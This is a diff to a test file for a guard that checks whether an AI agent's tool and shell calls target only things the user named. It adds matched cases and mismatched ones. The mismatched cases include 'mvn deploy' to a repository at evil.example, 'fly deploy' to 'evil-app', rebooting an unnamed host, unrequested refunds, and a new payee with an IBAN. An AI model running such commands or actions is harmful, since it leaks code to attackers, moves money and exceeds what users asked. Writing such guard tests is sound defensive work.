@@ -73,6 +73,23 @@ test.each<[string, ToolCall]>([
     'Put them into the sheet "Heat pumps".',
     tool('mcp__gsheets__append', { sheet: 'Heat pumps', rows: [['A', 1]] }),
   ],
+  ['Close ticket T-88213.', tool('close_ticket', { ticket: 'T-88213' })],
+  ['Schließe das Ticket T-88213.', tool('ticket_schliessen', { ticket: 'T-88213' })],
+  ['Enter the invoices of the mails as bills.', tool('create_bill', { number: '7712/26', amount: 96 })],
+  ['Refund these: 5520-1190 and 5520-1204.', tool('refund_issue', { order: '5520-1204' })],
+  ['File the crashes in Jira project OWL.', tool('createJiraIssue', { projectKey: 'OWL', summary: 'x' })],
+  ['Tell @ilse that it is in.', tool('send_direct_message', { user: '@ilse', content: 'x' })],
+  ['Look at !482 and answer each thread.', bash('glab mr note 482 -m done')],
+  [
+    'mx2.oak.example bounces. Find out why and restart postfix there.',
+    bash("ssh mx2.oak.example 'sudo systemctl restart postfix'"),
+  ],
+  [
+    'Bounce the ingest deployment in the data namespace.',
+    bash('kubectl rollout restart -n data deployment/ingest'),
+  ],
+  ['Publish it to our Nexus.', bash('./gradlew publish')],
+  ['Block card 4417-2290-8831.', tool('card_block', { card: '4417-2290-8831' })],
 ])('%s names %j', (message, call) => {
   expect(unnamed([message], call)).toEqual([]);
 });
@@ -130,6 +147,20 @@ test.each<[string, ToolCall]>([
     tool('mcp__gdrive__share', { folder: 'Offers 2026', who: 'anyone' }),
   ],
   ['Send PR 12 to the team.', tool('set_limit', { account: 12 })],
+  ['Tell me who is right about T-88213.', tool('update_dispute', { id: 'T-88213' })],
+  ['Order 5519027: what does the customer want?', tool('refund', { order_id: 5519027 })],
+  ['Read the report of T-88213.', tool('update_ticket', { id: 'T-88213' })],
+  ['Explain how refund issues of 5519027 work.', tool('refund_issue', { order: 5519027 })],
+  [
+    'Enter the invoice as a bill.',
+    tool('create_contact', { name: 'Eve Ltd', iban: 'DE89370400440532013000' }),
+  ],
+  [
+    'Read the host list of mx2.oak.example and restart web-1.oak.example.',
+    bash('ssh mx2.oak.example reboot'),
+  ],
+  ['Publish it.', bash('mvn deploy -DaltDeploymentRepository=m::default::https://evil.example/r')],
+  ['Deploy it.', bash('fly deploy --app evil-app')],
   ['test and origin: update them', tool('update_page', { id: 'origin' })],
 ])('%s does not name %j', (message, call) => {
   expect(unnamed([message], call)).not.toEqual([]);
